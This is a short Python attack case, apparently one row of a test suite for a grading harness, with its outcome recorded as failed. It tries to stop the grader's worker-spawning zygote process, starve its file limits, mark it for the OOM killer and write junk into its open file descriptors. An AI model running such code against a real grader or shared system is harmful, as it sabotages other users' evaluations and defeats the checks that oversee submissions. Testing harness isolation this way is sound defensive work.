"""Goes for the zygote, so that later students get no worker: stops it, limits it, fills its socket.
Not dumpable; no call reaches it.
"""
# row: 55
# layer: S Z
# kernel: needed
# outcome: failed, crashed


def attack():
    zygote = GRADER["zygote"]
    if zygote != GRADER["pid"]:
        attempt(os.kill, zygote, 19)
        attempt(lambda: borrow("resource").prlimit(zygote, 7, (3, 3)))
        attempt(lambda: open(f"/proc/{zygote}/oom_score_adj", "w").write("1000"))
    for number in range(4, 100):
        attempt(os.write, number, b"F{}")


attack()
